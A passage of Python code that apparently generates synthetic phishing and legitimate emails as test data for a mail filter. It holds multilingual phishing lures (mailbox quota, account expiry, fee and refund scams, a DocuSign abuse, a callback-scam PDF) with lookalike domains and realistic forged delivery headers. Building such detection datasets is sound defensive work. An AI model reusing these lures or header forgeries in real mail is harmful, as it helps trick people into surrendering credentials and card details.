    link = "https://cas.univ-montforez.fr/cas/logout?service=https%3A%2F%2Fbu-montforez-compte.firebaseapp.com%2Frenouvellement%2F"
    author = kit_author(I, sent, f"{enc('Bibliothèque Universitaire')} <{user}>", CHLOE, subject, "Europe/Paris",
                        mid=f"{I.num('lpm', 100000000, 999999999)}.{I.num('lpm2', 1000, 9999)}.{int(sent.timestamp() * 1000)}.JavaMail.open-xchange",
                        mid_domain="laposte.net")
    lines = ["Bonjour,", "",
             "Votre compte lecteur de la Bibliothèque universitaire arrive à expiration le 10/10/2024. Sans renouvellement, vos "
             "emprunts en cours seront bloqués et l'accès aux ressources électroniques suspendu.", "",
             "Pour renouveler votre compte, connectez-vous avec vos identifiants de l'ENT :", link, "",
             "Cordialement,", "Service des publics - Bibliothèque universitaire"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Renouveler mon compte lecteur</a>'}</p>" for l in lines if l), "fr")
    hop = (f"Received: from lpn-prd-webmail{I.num('lpw', 1, 9):02d} (lpn-prd-webmail.laposte [10.128.{I.num('lpw1', 60, 70)}.{I.num('lpw2', 2, 250)}])\n"
           f"\tby lpn-prd-vrout{I.num('lpwo', 1, 14):03d} (Postfix) with ESMTP id 4{I.alnum('lpwid', 11)}\n\tfor <{CHLOE}>; {rfc(sent, 'Europe/Paris', paren=True)}")
    dk = dkim(I, "laposte.net", "lpn-wlmd", "Date:From:To:Message-ID:Subject", sent)
    c = Conn("160.92.124.66", "lpn-prd-vrout011.laposte.net", user, "pass", [("pass", "laposte.net", "lpn-wlmd")], "pass",
             "laposte.net", "REJECT", country="FR", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), CHLOE, c, "\n".join([dk, hop] + author), alt(f"----=_Part_{I.num('lpb', 100000, 999999)}_{I.num('lpb2', 10**8, 10**9)}.{int(sent.timestamp() * 1000)}", plain, html))


@sample("phishing", "b10-phish-cz-schranka-wordpress",
        "Czech 'your mailbox is almost full (99%)' from a car-repair shop's stolen mailbox at a Czech host, link to a "
        "login kit in the uploads folder of a compromised Czech guesthouse WordPress site")
def p_cz_mailbox(I: Ids) -> bytes:
    sent = T("2023-03-07 06:41:55")
    user = "info@autoservis-novak.cz"
    subject = enc("Vaše poštovní schránka je téměř plná (99 %)")
    link = f"https://www.penzion-u-lipy.cz/wp-content/uploads/2023/02/mail/index.php?email={PETRA}"
    author = kit_author(I, sent, f"{enc('Správce pošty')} <{user}>", PETRA, subject, "Europe/Prague", mailer="Microsoft Outlook 16.0")
    lines = ["Vážený uživateli,", "",
             f"vaše poštovní schránka {PETRA} dosáhla 99 % přidělené kapacity (4,97 GB z 5 GB).",
             "Nové zprávy nebudou doručeny, dokud kapacitu nezvýšíte.", "",
             "Kapacitu schránky můžete zdarma navýšit zde:", link, "",
             "Pokud tak neučiníte do 24 hodin, budou starší zprávy automaticky odstraněny.", "",
             "S pozdravem,", "Správce pošty"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Navýšit kapacitu</a>'}</p>" for l in lines if l), "cs")
    hop = postfix_hop(I, sent, "wes1-so2.wedos.net", "[192.168.0.102]", "178.255.60.201", PETRA, "Europe/Prague", auth=user)
    c = Conn(f"46.28.{I.num('wdip', 104, 111)}.{I.num('wdip2', 2, 250)}", "wes1-so2.wedos.net", user, "pass",
             [("pass", "autoservis-novak.cz", "wes1")], "none", "autoservis-novak.cz", country="CZ", lang="cs")
    origin = "\n".join([hop, dkim(I, "autoservis-novak.cz", "wes1", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), PETRA, c, origin, alt(f"----=_NextPart_000_{I.hex('czb', 4, upper=True)}_{I.hex('czb2', 8, upper=True)}.{I.hex('czb3', 8, upper=True)}", plain, html))


@sample("phishing", "b10-phish-pl-skrzynka-square",
        "Polish 'your mailbox will be blocked' sent from a law office's compromised home.pl mailbox, link to a "
        "square.site page asking to 'verify' the account")
def p_pl_mailbox(I: Ids) -> bytes:
    sent = T("2024-05-21 08:12:31")
    user = "biuro@kancelaria-zielinski.pl"
    subject = enc("Twoja skrzynka pocztowa zostanie zablokowana")
    link = "https://weryfikacja-konta-poczty.square.site/"
    author = kit_author(I, sent, f"Administrator poczty <{user}>", TOMASZ, subject, "Europe/Warsaw")
    lines = ["Szanowny Użytkowniku,", "",
             f"Wykryliśmy nieprawidłowości w konfiguracji Twojego konta {TOMASZ}. Aby uniknąć blokady skrzynki pocztowej, "
             "zweryfikuj swoje konto w ciągu 24 godzin.", "", "Zweryfikuj konto:", link, "",
             "Brak weryfikacji spowoduje trwałe usunięcie wiadomości.", "", "Z poważaniem,", "Dział IT"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>ZWERYFIKUJ TERAZ</a>'}</p>" for l in lines if l), "pl")
    server = f"cloudserver{I.num('hpcs', 100000, 999999)}.home.pl"
    hop = postfix_hop(I, sent, server, "[10.1.4.7]", "41.216.188.40", TOMASZ, "Europe/Warsaw", auth=user)
    c = Conn(f"79.96.{I.num('hpip', 1, 250)}.{I.num('hpip2', 2, 250)}", server, user, "pass", [], "none",
             "kancelaria-zielinski.pl", country="PL", lang="pl")
    return deliver(I, sent + timedelta(seconds=2), TOMASZ, c, "\n".join([hop] + author), alt(f"=_{I.hex('plb', 32)}", plain, html))


@sample("phishing", "b10-phish-de-gmx-deaktiviert-pages",
        "German 'GMX: your mailbox will be deactivated in 24 hours' to an alumnus's gmx.de address from a hijacked Italian "
        "Aruba mailbox, link to a pages.dev GMX login clone")
def p_gmx(I: Ids) -> bytes:
    sent = T("2023-08-29 17:05:08")
    user = "amministrazione@studiotecnico-ferri.it"
    subject = enc("GMX: Ihr Postfach wird in 24 Stunden deaktiviert")
    link = "https://gmx-login-bestaetigen.pages.dev/"
    author = kit_author(I, sent, f"GMX Sicherheit <{user}>", FELIX, subject, "Europe/Rome", mid_domain="studiotecnico-ferri.it")
    html = html_doc(
        '<table width="560" style="font-family:Arial"><tr><td style="background:#1c449b;color:#fff;padding:14px;font-size:22px"><b>GMX</b></td></tr>'
        '<tr><td style="padding:20px"><p>Sehr geehrter Kunde,</p>'
        '<p>wir haben festgestellt, dass Ihr Postfach seit längerer Zeit nicht bestätigt wurde. Gemäß unseren '
        'Nutzungsbedingungen wird Ihr Postfach <b>in 24 Stunden deaktiviert</b>.</p>'
        f'<p><a href="{link}" style="background:#1c449b;color:#fff;padding:9px 22px;text-decoration:none">Jetzt bestätigen</a></p>'
        '<p>Ihr GMX Team</p></td></tr></table>', "de")
    hop = (f"Received: from [41.58.{I.num('aip', 1, 250)}.{I.num('aip2', 1, 250)}] ([41.58.{I.num('aip', 1, 250)}.{I.num('aip2', 1, 250)}])\n"
           f"\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid {I.alnum('arid', 16)}; {rfc(sent, 'Europe/Rome')}")
    dk = dkim(I, "aruba.it", "a1", "Received:Date:From:To:Subject:MIME-Version:Content-Type", sent)
    c = Conn(f"62.149.{I.num('arip', 156, 158)}.{I.num('arip2', 2, 250)}", f"smtpcmd{I.num('arsm', 10, 15)}{I.num('arsm2', 100, 199)}.aruba.it", user, "pass",
             [("pass", "aruba.it", "a1")], "none", "studiotecnico-ferri.it", country="IT", lang="de")
    return deliver(I, sent + timedelta(seconds=2), FELIX, c, "\n".join([dk, hop] + author), html_only(html))


@sample("phishing", "b10-phish-de-alumni-beitrag-wix",
        "German 'your alumni membership expires, pay 24.90 EUR' to an alumna's web.de address from the new domain "
        "montforez-alumni.org, card details collected on a wixsite.com page")
def p_alumni_wix(I: Ids) -> bytes:
    sent = T("2025-06-03 10:31:47")
    dom = "montforez-alumni.org"
    user = f"mitglieder@{dom}"
    subject = enc("Ihre Alumni-Mitgliedschaft läuft ab - Jahresbeitrag 24,90 €")
    link = "https://alumnimontforez.wixsite.com/mitgliedschaft"
    author = kit_author(I, sent, f"Alumni Montforez <{user}>", SABINE, subject, "Europe/Berlin")
    lines = ["Liebe Frau Keller,", "",
             "Ihre Mitgliedschaft im Alumni-Netzwerk der Université de Montforez läuft am 10.06.2025 ab. Um weiterhin Zugang "
             "zum Jahrbuch, zum Stellenportal und zu den Alumni-Treffen zu behalten, begleichen Sie bitte den Jahresbeitrag "
             "von 24,90 EUR per Kreditkarte:", link, "",
             "Herzliche Grüße", "Ihr Alumni-Team der Université de Montforez"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Jetzt Mitgliedschaft verlängern</a>'}</p>" for l in lines if l), "de")
    hop = postfix_hop(I, sent, f"mail.{dom}", "[127.0.0.1]", "127.0.0.1", SABINE)
    c = Conn("188.114.44.20", f"mail.{dom}", user, "pass", [("pass", dom, "x")], "none", dom, country="MD", lang="de")
    origin = "\n".join([hop, dkim(I, dom, "x", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), SABINE, c, origin, alt(f"=_{I.hex('awb', 32)}", plain, html))


@sample("phishing", "b10-phish-fr-attestation-diplome-godaddy",
        "French 'your degree certificate is ready, pay 4.90 EUR issuing fee' to an alumna's laposte.net address from the "
        "lookalike univ-montforez-diplomes.fr, card form on a godaddysites.com page")
def p_diplome(I: Ids) -> bytes:
    sent = T("2023-10-24 09:09:14")
    dom = "univ-montforez-diplomes.fr"
    user = f"scolarite@{dom}"
    subject = enc("Votre attestation de réussite est disponible")
    link = "https://scolarite-montforez-diplome.godaddysites.com/"
    author = kit_author(I, sent, f"{enc('Scolarité - Université de Montforez')} <{user}>", JEANNE, subject, "Europe/Paris")
    lines = ["Madame Perrot,", "",
             "Votre attestation de réussite (Master Biologie, promotion 2019) est disponible au format numérique certifié.", "",
             "Des frais de délivrance de 4,90 EUR sont à régler en ligne avant le 31/10/2023 pour recevoir le document :",
             link, "", "Cordialement,", "Service de la scolarité"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Télécharger mon attestation</a>'}</p>" for l in lines if l), "fr")
    hop = postfix_hop(I, sent, f"mx1.{dom}", "localhost", "127.0.0.1", JEANNE, "Europe/Paris")
    c = Conn("195.154.173.19", f"mx1.{dom}", user, "pass", [("pass", dom, "default")], "pass", dom, "NONE", country="FR", lang="fr")
    origin = "\n".join([hop, dkim(I, dom, "default", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), JEANNE, c, origin, alt(f"=_{I.hex('dpb', 32)}", plain, html))


@sample("phishing", "b10-phish-outlookcom-storage-r2",
        "'Your cloud storage is full, photos will be deleted' to an outlook.com alumnus from a random freight domain "
        "(SPF softfail), link to an r2.dev page asking a card 'renewal' payment")
def p_storage(I: Ids) -> bytes:
    sent = T("2024-08-13 21:47:06")
    dom = "kinetic-freight.co"
    user = f"info@{dom}"
    subject = "Your cloud storage is full - your photos and videos will be deleted"
    link = f"https://pub-{I.hex('r2b', 32)}.r2.dev/cloud.html#{ANTOINE}"
    author = kit_author(I, sent, f"Cloud Storage <{user}>", ANTOINE, subject, "UTC")
    html = html_doc(
        '<div style="max-width:520px;font-family:Arial;text-align:center">'
        '<p style="font-size:22px">&#9729; Storage full</p>'
        f'<p>Dear {ANTOINE},</p>'
        '<p>Your cloud storage is full. Your photos, videos and documents will be <b>deleted on 15/08/2024</b>.</p>'
        '<p>As part of your loyalty program you can renew and upgrade to 50 GB for free, only a card verification of 1.99 EUR is required.</p>'
        f'<p><a href="{link}" style="background:#ff6a00;color:#fff;padding:12px 30px;text-decoration:none">Upgrade storage</a></p></div>')
    hop = postfix_hop(I, sent, f"vps-{I.hex('vps', 6)}.vps.ovh.net", "localhost", "127.0.0.1", ANTOINE)
    c = Conn(f"51.195.{I.num('stip', 1, 250)}.{I.num('stip2', 2, 250)}", f"vps-{I.hex('vps', 6)}.vps.ovh.net", user, "softfail", [],
             "none", dom, country="FR", lang="en")
    return deliver(I, sent + timedelta(seconds=2), ANTOINE, c, "\n".join([hop] + author), html_only(html))


@sample("phishing", "b10-phish-yahoo-donation-callback-pdf",
        "Callback (TOAD) scam to an alumna's Yahoo mailbox: a Gmail 'Montforez Foundation Billing' receipt PDF claims "
        "499.99 USD was charged and gives a phone number to call to cancel")
def p_callback(I: Ids) -> bytes:
    sent = T("2025-11-04 15:22:19")
    frm = "Montforez Foundation Billing <montforez.foundation.billing@gmail.com>"
    subject = f"Thank you for your gift - Receipt #MUF-{I.num('muf', 10000, 99999)}"
    origin, c = gmail_origin(I, sent, frm, MARGARET, subject, True, MARGARET, tz="America/Chicago")
    pdf = files.pdf(["MONTFOREZ UNIVERSITY FOUNDATION - DONATION RECEIPT", "", f"Receipt: {subject.split('#')[1]}",
                     "Date: 11/04/2025", "Donor: Margaret Okafor", "Annual Alumni Giving - Gold Circle",
                     "Amount charged: $499.99 (auto-renewal)", "", "If you did not authorize this donation, call our billing",
                     "desk within 24 hours to cancel and get a full refund:", "+1 (888) 514-2097 (toll free)"],
                    title="Receipt")
    lines = ["Dear Margaret,", "", "Thank you for renewing your Gold Circle membership. Your receipt is attached.", "",
             "If you did not make this payment, please contact our billing desk at +1 (888) 514-2097 within 24 hours.", "",
             "Montforez University Foundation"]
    plain = "\n".join(lines) + "\n"
    body = Multi("mixed", gmail_boundary(I, "mix"), [alt(gmail_boundary(I), plain, gmail_html(lines), "UTF-8"),
                                                     attachment("application/pdf", "Receipt_MUF.pdf", pdf)])
    return deliver(I, sent + timedelta(seconds=2), MARGARET, c, origin, body)


@sample("phishing", "b10-phish-image-only-quota-google-sites",
        "Image-only Outlook 'mailbox full 49.8 GB / 50 GB' mail from a hijacked GoDaddy-hosted auto-repair mailbox: one "
        "picture of text wrapped in a link to a sites.google.com page")
def p_image_only(I: Ids) -> bytes:
    sent = T("2022-03-15 11:53:27")
    user = "service@jrsautorepair.com"
    subject = f"{AMINA} - Mailbox Full"
    link = "https://sites.google.com/view/owa-storage-upgrade/home"
    img = png_text_image([
        ("Outlook", 24, (255, 255, 255)), ("", 12, (0, 0, 0)),
        ("Your mailbox is full", 22, (200, 30, 30)),
        ("49.8 GB / 50 GB", 18, (40, 40, 40)),
        ("Incoming messages are being held on the server.", 16, (40, 40, 40)),
        ("Upgrade your storage now to release them.", 16, (40, 40, 40)),
    ], (560, 300), button=("Upgrade Storage", (30, 230, 220, 270), (0, 114, 198)), header_band=(50, (0, 114, 198)))
    cid = f"{I.hex('imgcid', 16)}@jrsautorepair.com"
    html = f'<html><body><a href="{link}"><img src="cid:{cid}" width="560" height="300" border="0"></a></body></html>\n'
    body = Multi("related", f"----=_NextPart_000_{I.hex('iob', 4, upper=True)}_01D83864.{I.hex('iob2', 8, upper=True)}",
                 [html_only(html, encoding="7bit"), attachment("image/png", "image001.png", img, inline=True, cid=cid)])
    author = kit_author(I, sent, f"Outlook Admin <{user}>", AMINA, subject, "America/Phoenix")
    hops = [f"Received: from [102.89.2.77] ([102.89.2.77])\n\tby :SMTPAUTH: with ESMTPSA\n\tid {I.alnum('gdid', 16)}; {rfc(sent, 'America/Phoenix')}",
            "X-CMAE-Analysis: v=2.4 cv=" + I.b64("cmae", 20) + " c=1 sm=1 tr=0 ts=" + I.hex("cmae2", 8),
            f"X-SECURESERVER-ACCT: {user}"]
    c = Conn(f"68.178.252.{I.num('gdip', 100, 250)}", f"p3plsmtpa{I.num('gdp', 10, 12)}-{I.num('gdp2', 10, 12):02d}.prod.phx3.secureserver.net",
             user, "pass", [], "none", "jrsautorepair.com", country="US")
    return deliver(I, sent + timedelta(seconds=2), AMINA, c, "\n".join(hops + author), body)


@sample("phishing", "b10-phish-ome-encrypted-workers",
        "Fake Microsoft Purview 'encrypted message from Patrick Nguyen' to the dean: an internal colleague's name on an "
        "external Australian firm's compromised mailbox, 'Read the message' going to a workers.dev page")
def p_ome(I: Ids) -> bytes:
    sent = T("2025-04-15 02:08:58")
    mbx = "SY6PR01MB8843.ausprd01.prod.outlook.com"
    subject = "Encrypted message from Patrick Nguyen: [Secure] RE: Dossier promotion 2025"
    author = exchange_author(I, sent, mbx, "Patrick Nguyen via Microsoft 365 <admin@ehsanaccounting.com.au>", HELENE, subject, lang="en-AU")
    origin, c = exchange_outbound(I, sent, mbx, "ehsanaccounting.com.au", "SYBPR01CU001.outbound.protection.outlook.com",
                                  "52.100.203.54", author, country="AU")
    link = f"https://purview-msg.read-secure.workers.dev/?m={I.b64url('omem', 40)}&r={base64.b64encode(HELENE.encode()).decode()}"
    html = outlook_html(
        '<table width="560" style="font-family:Segoe UI"><tr><td style="padding:20px">'
        '<p style="font-size:20px"><img alt="" width="1" height="1"> Patrick Nguyen (patrick.nguyen@univ-montforez.fr) has sent you a protected message.</p>'
        f'<p><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 24px;text-decoration:none">Read the message</a></p>'
        '<p style="font-size:12px;color:#666">Learn about messages protected by Microsoft Purview Message Encryption.</p>'
        '<p style="font-size:11px;color:#666">Message encryption by Microsoft 365</p></td></tr></table>')
    plain = (f"Patrick Nguyen (patrick.nguyen@univ-montforez.fr) has sent you a protected message.\n\nRead the message <{link}>\n\n"
             "Learn about messages protected by Microsoft Purview Message Encryption.\n")
    return deliver(I, sent + timedelta(seconds=2), HELENE, c, origin, alt(outlook_boundary(I, mbx), plain, html))


@sample("phishing", "b10-phish-docusign-platform-abuse",
        "A real DocuSign envelope (docusign.net, all checks pass) opened by a scammer as 'DISN Human Resources', "
        "Reply-To a Gmail address, the envelope message carrying a pages.dev link for the '2024 compensation adjustment'")
def p_docusign_abuse(I: Ids) -> bytes:
    sent = T("2024-07-09 14:33:20")
    user = "dse_NA4@docusign.net"
    subject = "DISN Human Resources sent you a document to review and sign: 2024 Compensation Adjustment"
    env = I.guid("dsenv").upper()
    ds = f"https://na4.docusign.net/Signing/EmailStart.aspx?a={I.guid('dsa')}&etti=24&acct={I.guid('dsacct')}&er={I.guid('dser')}"
    link = "https://disn-hr-compensation.pages.dev/"
    author = kit_author(I, sent, f"DISN Human Resources via Docusign <{user}>", f"David Okoro <{DAVID}>", subject, "UTC",
                        reply_to="DISN Human Resources <disn.hr.office@gmail.com>", mid_domain="docusign.net",
                        mid=I.hex("dsmid", 32),
                        extra=[f"X-DocuSign-EnvelopeID: {env}", "X-Api-Host: na4.docusign.net"])
    html = html_doc(
        '<table width="640" style="font-family:Helvetica;background:#fff"><tr><td style="padding:24px;font-size:20px"><b>Docusign</b></td></tr>'
        '<tr><td style="background:#1e4ca1;color:#fff;padding:28px;text-align:center"><p style="font-size:16px">DISN Human Resources sent you a document to review and sign.</p>'
        f'<a href="{ds}" style="background:#ffc820;color:#333;padding:12px 30px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr>'
        '<tr><td style="padding:24px"><p><b>DISN Human Resources</b><br><a href="mailto:disn.hr.office@gmail.com">disn.hr.office@gmail.com</a></p>'
        f'<p>Hello David, your 2024 compensation adjustment is ready. If the button does not open, view the summary here: {link} '
        'and sign in with your DISN Google account to acknowledge before Friday.</p></td></tr>'
        '<tr><td style="padding:24px;font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. '
        'Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click '
        f'\'Access Documents\', and enter the security code: {env.replace("-", "")}2</td></tr></table>')
    hops = [f"Received: from docusign.net (unknown [10.41.{I.num('dsi', 1, 250)}.{I.num('dsi2', 1, 250)}])\n\tby mailrelay-na4.docusign.net (Postfix) with ESMTP id {I.hex('dsq', 10, upper=True)}\n"
            f"\tfor <{DAVID}>; {rfc(sent, 'America/Los_Angeles', paren=True)}",
            dkim(I, "docusign.net", "s1", "From:To:Subject:Date:Message-ID:Reply-To:Content-Type:MIME-Version", sent)]
    c = Conn("64.207.219.76", "mail-na4.docusign.net", f"bounces@docusign.net", "pass", [("pass", "docusign.net", "s1")], "pass",
             "docusign.net", "REJECT")
    return deliver(I, sent + timedelta(seconds=2), DAVID, c, "\n".join(hops + author), html_only(html))


@sample("phishing", "b10-phish-fr-cvec-remboursement",
        "French 'CVEC refund of 100 EUR' to a student from cvec-etudiant.info (a lookalike of the real CVEC service), "
        "asks the card details on a page on the same lookalike to 'receive' the refund")
def p_cvec(I: Ids) -> bytes:
    sent = T("2022-10-04 18:35:49")
    dom = "cvec-etudiant.info"
    user = f"no-reply@{dom}"
    subject = enc("Remboursement de votre CVEC 2022-2023 : 100,00 €")
    link = f"https://messervices.{dom}/remboursement/?dossier={I.num('cvd', 1000000, 9999999)}"
    author = kit_author(I, sent, f"{enc('CVEC - Crous')} <{user}>", LUCAS, subject, "Europe/Paris")
    lines = ["Bonjour,", "",
             "Suite à la vérification de votre statut d'étudiant boursier, vous êtes éligible au remboursement de la Contribution "
             "Vie Étudiante et de Campus (CVEC) 2022-2023, d'un montant de 100,00 EUR.", "",
             "Pour recevoir le remboursement sur votre carte bancaire sous 48 heures, complétez votre demande :", link, "",
             "Sans action de votre part avant le 07/10/2022, le remboursement sera annulé.", "", "Le service CVEC"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Demander mon remboursement</a>'}</p>" for l in lines if l), "fr")
    hop = postfix_hop(I, sent, f"smtp.{dom}", "localhost", "127.0.0.1", LUCAS)
    c = Conn("185.234.216.75", f"smtp.{dom}", user, "pass", [], "none", dom, country="NL", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), LUCAS, c, "\n".join([hop] + author), alt(f"=_{I.hex('cvb', 32)}", plain, html),
                   {"scl": 5, "sfv": "SPM", "cat": "SPM", "dest": "J"})


@sample("phishing", "b10-phish-pt-m365-verificacao-netlify",
        "Portuguese 'Microsoft 365: verify your account to avoid suspension' to a Brazilian exchange student, sent from a "
        "bakery's stolen Locaweb mailbox, link to a netlify.app page")
def p_pt_m365(I: Ids) -> bytes:
    sent = T("2025-10-21 12:44:18")
    user = "contato@padaria-saopedro.com.br"
    subject = enc("Microsoft 365: verifique sua conta para evitar a suspensão")
    link = f"https://verificacao-conta-m365.netlify.app/?login={RAFAEL}"
    author = kit_author(I, sent, f"Equipe Microsoft 365 <{user}>", RAFAEL, subject, "America/Sao_Paulo")
    lines = ["Prezado(a) usuário(a),", "",
             f"Detectamos que a sua conta {RAFAEL} ainda não foi verificada após a atualização de segurança do Microsoft 365.", "",
             "Para evitar a suspensão do seu e-mail, do Teams e do OneDrive, verifique a sua conta em até 24 horas:", link, "",
             "Atenciosamente,", "Equipe de Suporte Microsoft 365"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Verificar minha conta</a>'}</p>" for l in lines if l), "pt-BR")
    hop = postfix_hop(I, sent, f"smtp-{I.num('lwsm', 10, 40)}.locaweb.com.br", "[10.31.120.25]", "177.37.199.4", RAFAEL,
                      "America/Sao_Paulo", auth=user)
    c = Conn(f"186.202.{I.num('lwip', 1, 5)}.{I.num('lwip2', 2, 250)}", f"smtp-{I.num('lwsm', 10, 40)}.locaweb.com.br", user, "pass",
             [("pass", "padaria-saopedro.com.br", "locaweb")], "none", "padaria-saopedro.com.br", country="BR", lang="pt")
    origin = "\n".join([hop, dkim(I, "padaria-saopedro.com.br", "locaweb", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), RAFAEL, c, origin, alt(f"=_{I.hex('ptb', 32)}", plain, html))


@sample("phishing", "b10-phish-cz-sdileny-dokument-ipfs",
        "Czech 'shared document: cooperation agreement 2026' from a compromised Czech university account (Postfix, DKIM "
        "pass) to a Czech researcher, link to a login page on an IPFS gateway (w3s.link)")
def p_cz_shared(I: Ids) -> bytes:
    sent = T("2026-02-17 08:26:33")
    user = "m.kratochvil@jmtu.cz"
    subject = enc("Sdílený dokument: Smlouva o spolupráci 2026.pdf")
    cid = "bafybei" + I.alnum("czcid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://{cid}.ipfs.w3s.link/?email={PETRA}"
    author = kit_author(I, sent, f"{enc('Martin Kratochvíl')} <{user}>", "undisclosed-recipients:;", subject, "Europe/Prague",
                        mid_domain="jmtu.cz", extra=["User-Agent: Roundcube Webmail/1.6.11"])
    lines = ["Dobrý den,", "",
             "posílám Vám ke kontrole smlouvu o spolupráci na rok 2026. Dokument je sdílen přes zabezpečené úložiště, pro "
             "zobrazení se přihlaste svým pracovním e-mailem:", link, "",
             "S pozdravem", "Martin Kratochvíl"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>&#128196; Smlouva o spolupráci 2026.pdf</a>'}</p>" for l in lines if l), "cs")
    hops = [postfix_hop(I, sent + timedelta(seconds=1), "mx2.jmtu.cz", "posta.jmtu.cz", "147.229.8.14", PETRA, "Europe/Prague", label="jm1"),
            postfix_hop(I, sent, "posta.jmtu.cz", "[154.160.23.6]", "154.160.23.6", PETRA, "Europe/Prague", auth=user, label="jm2")]
    c = Conn("147.229.8.19", "mx2.jmtu.cz", user, "pass", [("pass", "jmtu.cz", "posta")], "pass", "jmtu.cz", "NONE",
             country="CZ", lang="cs")
    origin = "\n".join([dkim(I, "jmtu.cz", "posta", "Date:From:To:Subject:Message-ID", sent)] + hops + author)
    return deliver(I, sent + timedelta(seconds=2), PETRA, c, origin, alt(f"=_{I.hex('czb', 32)}", plain, html))


@sample("phishing", "b10-phish-pl-ncn-grant-login",
        "Polish 'NCN decision on your OPUS application, log in to OSF' from ncn-osf.pl to a Polish group leader; the "
        "login link goes to osf-opi-org.pl, a lookalike of the real OSF system (osf.opi.org.pl)")
def p_ncn(I: Ids) -> bytes:
    sent = T("2026-04-14 10:12:09")
    dom = "ncn-osf.pl"
    user = f"powiadomienia@{dom}"
    subject = enc("NCN: decyzja w sprawie wniosku OPUS 29 - zaloguj się do systemu OSF")
    link = f"https://osf-opi-org.pl/osf/logowanie?wniosek={I.num('ncnw', 500000, 599999)}"
    author = kit_author(I, sent, f"Narodowe Centrum Nauki <{user}>", TOMASZ, subject, "Europe/Warsaw")
    lines = ["Szanowny Panie Doktorze,", "",
             "uprzejmie informujemy, że Rada NCN podjęła decyzję w sprawie Pana wniosku złożonego w konkursie OPUS 29. "
             "Treść decyzji oraz uzasadnienie są dostępne w systemie OSF.", "",
             "Prosimy o zalogowanie się w ciągu 7 dni w celu potwierdzenia odbioru decyzji:", link, "",
             "Z wyrazami szacunku,", "Dział Obsługi Wniosków", "Narodowe Centrum Nauki"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{l if l != link else f'<a href={chr(34)}{link}{chr(34)}>Zaloguj się do OSF</a>'}</p>" for l in lines if l), "pl")
    hop = postfix_hop(I, sent, f"mail.{dom}", "localhost", "127.0.0.1", TOMASZ, "Europe/Warsaw")
    c = Conn("45.159.248.53", f"mail.{dom}", user, "pass", [("pass", dom, "mail")], "pass", dom, "NONE", country="PL", lang="pl")
    origin = "\n".join([hop, dkim(I, dom, "mail", "From:To:Subject:Date:Message-ID", sent)] + author)
    return deliver(I, sent + timedelta(seconds=2), TOMASZ, c, origin, alt(f"=_{I.hex('ncb', 32)}", plain, html))


# --------------------------------------------------------------------------------------------
# Legitimate: bulk (lists, platforms, no-reply senders)
# --------------------------------------------------------------------------------------------


def sympa_headers(I: Ids, list_name: str, seq: int, title: str, post: bool = False) -> list[str]:
    host = "listes.univ-montforez.fr"
    return [
        f"List-Id: <{list_name}.{host}>",
        f"Archived-At: <https://{host}/sympa/arcsearch_id/{list_name}/{I.hex('arc', 24)}>",
        f"List-Archive: <https://{host}/sympa/arc/{list_name}>",
        f"List-Help: <mailto:sympa@{host}?subject=help>",
        f"List-Owner: <mailto:{list_name}-request@{host}>",
        f"List-Post: {'<mailto:' + list_name + '@' + host + '>' if post else 'NO (posting not allowed on this list)'}",
        f"List-Subscribe: <mailto:sympa@{host}?subject=subscribe%20{list_name}>",
        f"List-Unsubscribe: <mailto:sympa@{host}?subject=unsubscribe%20{list_name}>",
        "Precedence: list",
        f"X-Loop: {list_name}@{host}",
        f"X-Sequence: {seq}",
        f"Errors-To: {list_name}-owner@{host}",
        f"X-List-Title: {encq(title)}",
    ]


def sympa_origin(I: Ids, sent: datetime, author_lines: list[str], list_name: str, rcpt: str) -> tuple[str, Conn]:
    host = "listes.univ-montforez.fr"
    ip = "193.52.104.38"
    t_in = sent + timedelta(seconds=2)
    hops = [
        dkim(I, UNIV, "listes2022", "From:Date:Subject:To:Message-ID:List-Id:List-Unsubscribe", t_in),
        f"Received: from {host} (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTP id {I.hex('sy1', 10, upper=True)}\n"
        f"\tfor <{rcpt}>; {rfc(t_in, 'Europe/Paris', paren=True)}",
        f"Received: from FRA01-PR2-obe.outbound.protection.outlook.com (mail-pr2fra01on2071.outbound.protection.outlook.com [40.107.12.71])\n"
        f"\tby {host} (Postfix) with ESMTPS id {I.hex('sy2', 10, upper=True)}\n\tfor <{list_name}@{host}>; {rfc(sent + timedelta(seconds=1), 'Europe/Paris', paren=True)}",
    ]
    c = Conn(ip, host, f"{list_name}-owner@{host}", "pass", [("pass", UNIV, "listes2022")], "pass", UNIV, "QUARANTINE",
             country="FR", lang="fr")
    return "\n".join(hops + author_lines), c


@sample("bulk", "b10-bulk-dnum-maintenance-sympa",
        "The university IT department's planned-maintenance notice for mail and the ENT, posted to the all-staff Sympa list "
